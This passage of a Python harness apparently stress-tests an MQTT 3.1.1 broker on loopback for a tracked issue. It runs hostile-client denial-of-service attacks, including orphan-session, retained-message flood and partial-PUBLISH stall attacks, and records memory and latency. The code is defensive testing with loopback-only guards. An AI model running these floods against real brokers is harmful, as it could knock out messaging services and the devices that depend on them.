        c = await Mqtt.connect(ctx.port, "orphan-%d" % i, False, 30, 5)
        try:
            if c.connack_rc != 0:
                return "connack %d" % c.connack_rc
            c.send(subscribe_pkt(1, [("x/#", 1)]))
            while True:
                ptype, _f, _b = await c.read(5)
                if ptype == SUBACK:
                    break
            await c.disconnect()
            return "ok"
        finally:
            c.abort()

    res = await bounded_gather(n, 200, orphan, deadline)
    made = sum(1 for r in res if r == "ok")
    ctx.extra.update({"clients": n, "sessions_made": made,
                      "session_errors": sorted(set(str(r) for r in res if r != "ok"))[:5],
                      "setup_s": round(time.monotonic() - t0, 3)})

    async def cleanup(ctx2, dl):
        async def clean(i):
            c = await Mqtt.connect(ctx2.port, "orphan-%d" % i, True, 30, 5)
            await c.disconnect()
            return "ok"
        r = await bounded_gather(n, 200, clean, dl)
        return {"sessions_removed": sum(1 for x in r if x == "ok")}
    ctx.cleanups.append(cleanup)

    # publisher: 100 QoS 1 messages to x/y, one at a time, PUBACK latency
    lat, timeouts, err = [], 0, None
    try:
        p = ctx.track(await Mqtt.connect(ctx.port, "orphan-pub-%s" % ctx.tag, True, 30, 5))
        payload = b"P" * 100
        for k in range(100):
            if ctx.check_abort() or ctx.left() <= 0:
                err = ctx.aborted or "deadline"
                break
            pid = k + 1
            ts = time.monotonic()
            p.send(publish_pkt("x/y", payload, 1, False, pid))
            try:
                while True:
                    ptype, _f, body = await p.read(min(5.0, max(0.001, ctx.left())))
                    if ptype == PUBACK and struct.unpack("!H", body[:2])[0] == pid:
                        lat.append(time.monotonic() - ts)
                        break
            except asyncio.TimeoutError:
                timeouts += 1
        await p.disconnect()
    except NET_ERRORS as e:
        err = repr(e)
    st = stats_ms(lat)
    ctx.extra.update({"publishes": 100, "pubacks": len(lat), "puback_timeouts": timeouts,
                      "puback_median_ms": st["median_ms"], "puback_max_ms": st["max_ms"],
                      "publisher_error": err})
    await ctx.sleep_until(min(time.monotonic() + 2.0, ctx.deadline))
    ctx.end_window()


async def atk_retained_flood(ctx):
    n = ctx.count(20000)
    payload = b"B" * (50 * 1024)
    ctx.cleanups.append(clear_retained_cleanup("big/", n))
    ctx.start_attack()
    # leave ~12 s of the budget for the counting subscriber
    st = await publish_bulk(ctx, "big-store-%s" % ctx.tag,
                            (("big/%d" % i, payload) for i in range(n)),
                            max(time.monotonic() + 5, ctx.deadline - 12))
    ctx.extra["publish"] = st
    await asyncio.sleep(0.5)
    # count what the broker kept: a fresh subscriber on big/# for up to 10 s
    topics = set()
    t0 = time.monotonic()
    err = None
    try:
        c = ctx.track(await Mqtt.connect(ctx.port, "big-count-%s" % ctx.tag, True, 0, 5))
        c.send(subscribe_pkt(1, [("big/#", 0)]))
        end = t0 + 10.0
        while time.monotonic() < end and len(topics) < n:
            try:
                ptype, flags, body = await c.read(min(3.0, max(0.001, end - time.monotonic())))
            except asyncio.TimeoutError:
                break   # 3 s without a message: the broker has sent what it kept
            if ptype == PUBLISH:
                topic, _q, _pid, retain, _pl = parse_publish(flags, body)
                if retain:
                    topics.add(topic)
        await c.disconnect()
    except NET_ERRORS as e:
        err = repr(e)
    ctx.extra.update({"retained_kept": len(topics), "retained_sent": st["sent"],
                      "count_s": round(time.monotonic() - t0, 3), "count_error": err})
    ctx.end_window()


async def atk_partial_publish(ctx):
    n = ctx.count(1000)
    rl = 1_000_000            # announced remaining length: whole packet 1,000,004 bytes
    send_total = 999_000      # bytes actually sent, fixed header included
    zeros = memoryview(bytes(send_total))
    chunk = 65536
    closed_at = []
    state = {"connected": 0, "fully_sent": 0, "send_errors": 0, "connect_errors": 0}
    ctx.start_attack()
    stop_at = ctx.hold_until()
    sem = asyncio.Semaphore(100)
    writers = []

    async def client(i):
        t_open = None
        try:
            async with sem:
                c = await Mqtt.connect(ctx.port, "partial-%s-%d" % (ctx.tag, i), True, 0,
                                       min(5.0, max(0.001, stop_at - time.monotonic())))
                if c.connack_rc != 0:
                    c.abort()
                    state["connect_errors"] += 1
                    return
                ctx.track(c)
                writers.append(c)
                state["connected"] += 1
                t_open = time.monotonic()
                head = bytes([PUBLISH << 4]) + varint(rl) + mstr("pp/%d" % i)
                c.send(head)
                sent = len(head)
                while sent < send_total:
                    k = min(chunk, send_total - sent)
                    c.send(zeros[:k])
                    sent += k
                    await c.drain(max(0.001, stop_at - time.monotonic()))
                state["fully_sent"] += 1
        except asyncio.TimeoutError:
            if t_open is None:
                state["connect_errors"] += 1
            else:
                state["send_errors"] += 1
            if t_open is None:
                return
        except NET_ERRORS:
            if t_open is None:
                state["connect_errors"] += 1
                return
            state["send_errors"] += 1
        # stall; notice when the broker closes the socket
        try:
            data = await asyncio.wait_for(c.r.read(1), max(0.001, stop_at - time.monotonic()))
            closed_at.append(time.monotonic() - t_open)
        except asyncio.TimeoutError:
            pass
        except OSError:
            closed_at.append(time.monotonic() - t_open)

    tasks = [asyncio.create_task(client(i)) for i in range(n)]
    await ctx.sleep_until(stop_at)
    ctx.end_window()
    await asyncio.wait(tasks, timeout=2)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    # sockets whose state shows the broker closed them (also those not yet noticed)
    closed_tcp = 0
    for c in writers:
        s = c.w.get_extra_info("socket")
        if s is not None and tcp_state(s) in ("CLOSE_WAIT", "CLOSE", "LAST_ACK"):
            closed_tcp += 1
    st = stats_ms(closed_at)
    ctx.extra.update(state)
    ctx.extra.update({"clients": n, "bytes_each": send_total, "announced_remaining_length": rl,
                      "closed_by_broker": max(len(closed_at), closed_tcp),
                      "close_after_median_s": None if not closed_at else round(st["median_ms"] / 1000, 2),
                      "close_after_max_s": None if not closed_at else round(st["max_ms"] / 1000, 2)})


ATTACKS = {
    "subscribe_hash": atk_subscribe_hash,
    "retained_scan": atk_retained_scan,
    "silent_flood": atk_silent_flood,
    "deep_filters": atk_deep_filters,
    "orphan_sessions": atk_orphan_sessions,
    "retained_flood": atk_retained_flood,
    "partial_publish": atk_partial_publish,
}


# --------------------------------------------------------------------------
# Runner
# --------------------------------------------------------------------------

def human_line(r):
    lv = r.get("live") or {}
    pr = r.get("probe") or {}
    ex = r.get("extra") or {}
    parts = [
        "%-15s rss base %s peak %s end %s after-close %s MiB" % (
            r["attack"], fmt(r["rss_baseline_mb"]), fmt(r["rss_peak_mb"]),
            fmt(r["rss_end_mb"]), fmt(r["rss_after_close_mb"])),
        "live rtt med %s max %s ms, lost %s/%s, stall %s s" % (
            fmt(lv.get("rtt_median_ms"), nd=2), fmt(lv.get("rtt_max_ms"), nd=2),
            lv.get("lost"), lv.get("sent"), fmt(lv.get("longest_stall_s"), nd=2)),
    ]
    if pr:
        p = "probe connack %s/%s" % (pr.get("connack_0"), pr.get("attempted"))
        if "suback_ok" in pr:
            p += ", suback med %s max %s ms" % (fmt(pr.get("suback_median_ms"), nd=2),
                                                  fmt(pr.get("suback_max_ms"), nd=1))
        parts.append(p)
    a = r["attack"]
    if a == "subscribe_hash":
        parts.append("%s x '#' (%s B) sent in %s s; attacker %s, %s B unread" % (
            ex.get("filters"), ex.get("subscribe_bytes"), fmt(ex.get("subscribe_send_s"), nd=3),
            ex.get("attacker_tcp_state"), ex.get("attacker_unread_bytes")))
    elif a == "retained_scan":
        parts.append("%s x 'z/#' over %s retained: SUBACK after %s s%s" % (
            ex.get("filters"), (ex.get("retained_stored") or {}).get("sent"), ex.get("suback_s"),
            (" (" + ex["error"] + ")") if ex.get("error") else ""))
    elif a == "silent_flood":
        parts.append("%s silent sockets (peak open %s, opened %s, closed by broker %s); "
                     "real clients CONNACK 0: %s/%s" % (
                         ex.get("sockets"), ex.get("peak_open"), ex.get("opened"),
                         ex.get("closed_by_broker"), pr.get("connack_0"), pr.get("attempted")))
    elif a == "deep_filters":
        parts.append("%s filters x 200 levels in %s packets: granted %s, 0x80 %s%s" % (
            ex.get("filters"), ex.get("packets"), ex.get("granted"), ex.get("failed_0x80"),
            (" (" + ex["error"] + ")") if ex.get("error") else ""))
    elif a == "orphan_sessions":
        parts.append("%s/%s orphan sessions; 100 QoS1 PUBACK med %s max %s ms, timeouts %s" % (
            ex.get("sessions_made"), ex.get("clients"), fmt(ex.get("puback_median_ms"), nd=2),
            fmt(ex.get("puback_max_ms"), nd=1), ex.get("puback_timeouts")))
    elif a == "retained_flood":
        parts.append("%s x 50 KB retained sent in %s s; broker kept %s" % (
            (ex.get("publish") or {}).get("sent"), (ex.get("publish") or {}).get("seconds"),
            ex.get("retained_kept")))
    elif a == "partial_publish":
        parts.append("%s clients, %s sent 999,000 B; broker closed %s by the end" % (
            ex.get("clients"), ex.get("fully_sent"), ex.get("closed_by_broker")))
    if r.get("aborted"):
        parts.append("ABORTED: %s" % r["aborted"])
    if r.get("error"):
        parts.append("ERROR: %s" % r["error"])
    return " | ".join(parts)


async def run_attack(name, args, sampler):
    log("%s: baseline" % name)
    t_b = time.monotonic()
    await asyncio.sleep(1.0)
    base = sampler.window(t_b, time.monotonic())
    tag = "%d-%s" % (os.getpid(), name)
    live = LivePair(args.port, tag)
    live.start()
    await wait_event(live.ready, 6.0)
    await asyncio.sleep(0.5)
    ctx = Ctx(args, sampler, name)
    log("%s: running (scale %s, duration %s s, at most %s s)" % (name, args.scale,
                                                                 args.duration, args.max_time))
    error = None
    try:
        await asyncio.wait_for(ATTACKS[name](ctx), args.max_time + 15)
    except asyncio.TimeoutError:
        error = "attack overran its time budget"
    except Exception as e:   # report and carry on with the next attack
        error = "%s: %s" % (type(e).__name__, e)
    ctx.end_window()
    ctx.check_abort()
    t_we = ctx.t_window_end
    ctx.close_all()
    t_closed = time.monotonic()
    log("%s: stopping live pair and probe" % name)
    probe = ctx.prober.stop() if ctx.prober else None
    live_r = live.stop()
    await asyncio.sleep(max(0.0, t_closed + 2.0 - time.monotonic()))
    t_after = time.monotonic()
    peak_samples = sampler.window(ctx.t_start, t_after)
    result = {
        "attack": name, "port": args.port, "pid": args.pid, "scale": args.scale,
        "duration_s": args.duration, "elapsed_s": round(t_we - ctx.t_start, 2),
        "attack_window_s": round(t_we - ctx.t_attack, 2) if ctx.t_attack else None,
        "rss_baseline_mb": mb(statistics.median(base)) if base else None,
        "rss_peak_mb": mb(max(peak_samples)) if peak_samples else None,
        "rss_end_mb": mb(sampler.at(t_we)),
        "rss_after_close_mb": mb(sampler.at(t_after)),
        "live": live_r, "probe": probe, "extra": ctx.extra,
        "aborted": ctx.aborted, "error": error,
        "broker_alive": sampler.alive(),
    }
    if ctx.cleanups and not args.no_cleanup and sampler.alive():
        log("%s: cleanup" % name)
        cl = {}
        dl = time.monotonic() + 60
        for fn in ctx.cleanups:
            try:
                cl.update(await asyncio.wait_for(fn(ctx, dl), 65) or {})
            except Exception as e:
                cl["error"] = "%s: %s" % (type(e).__name__, e)
        result["cleanup"] = cl
    return result


async def main_async(args):
    names = list(ATTACKS) if args.attack == "all" else [args.attack]
    sampler = RssSampler(args.pid, 0.1, args.rss_limit_mb)
    sampler.start()
    results = []
    try:
        for i, name in enumerate(names):
            if not sampler.alive():
                log("broker pid %d is gone; stopping" % args.pid)
                break
            if sampler.over_limit.is_set():
                log("broker RSS above --rss-limit-mb; stopping")
                break
            if i:
                await asyncio.sleep(2.0)
            r = await run_attack(name, args, sampler)
            results.append(r)
            print("JSON " + json.dumps(r, sort_keys=False), flush=True)
            print(human_line(r), flush=True)
    finally:
        sampler.stop()
    if args.out:
        with open(args.out, "w") as f:
            json.dump(results, f, indent=1)
    return results


def parse_args(argv=None):
    p = argparse.ArgumentParser(
        description="Hostile-client attacks (issue 7) against an MQTT 3.1.1 broker on loopback.")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, required=True, help="broker process id (RSS sampling)")
    p.add_argument("--attack", required=True, choices=list(ATTACKS) + ["all"])
    p.add_argument("--host", default="127.0.0.1", help="loopback address only")
    p.add_argument("--scale", type=float, default=1.0,
                   help="multiplies every count (messages, clients, sockets, filters per "
                        "SUBSCRIBE); sizes stay as in the issue (default 1)")
    p.add_argument("--duration", type=float, default=20.0,
                   help="seconds the hostile clients are held (default 20)")
    p.add_argument("--max-time", type=float, default=30.0,
                   help="budget of one attack, setup included, before cleanup (default 30)")
    p.add_argument("--full-packets", action="store_true",
                   help="keep the ~1 MiB SUBSCRIBEs of subscribe_hash/retained_scan full "
                        "size whatever --scale")
    p.add_argument("--rss-limit-mb", type=float, default=8192,
                   help="stop an attack early when the broker's RSS passes this (default 8192)")
    p.add_argument("--no-cleanup", action="store_true",
                   help="leave retained messages and persistent sessions in the broker")
    p.add_argument("--out", help="also write all results as a JSON array to this file")
    p.add_argument("-q", "--quiet", action="store_true")
    a = p.parse_args(argv)
    try:
        ip = ipaddress.ip_address(a.host)
    except ValueError:
        p.error("--host must be a loopback IP address")
    if not ip.is_loopback or ip.version != 4:
        p.error("--host must be an IPv4 loopback address (127.0.0.0/8)")
    if not (0 < a.scale <= 10):
        p.error("--scale must be in (0, 10]")
    if not (0 < a.duration <= 600) or not (0 < a.max_time <= 900):
        p.error("--duration must be in (0, 600], --max-time in (0, 900]")
    if a.max_time < a.duration:
        a.max_time = a.duration
    if not os.path.exists("/proc/%d/status" % a.pid):
        p.error("no process %d" % a.pid)
    return a


def main():
    global ARGS, HOST
    ARGS = parse_args()
    HOST = ARGS.host
    sys.setswitchinterval(0.001)   # the live/probe threads get the GIL quickly
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        except (ValueError, OSError):
            pass
    try:
        asyncio.run(main_async(ARGS))
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 130
    return 0


ARGS = None

if __name__ == "__main__":
    sys.exit(main())
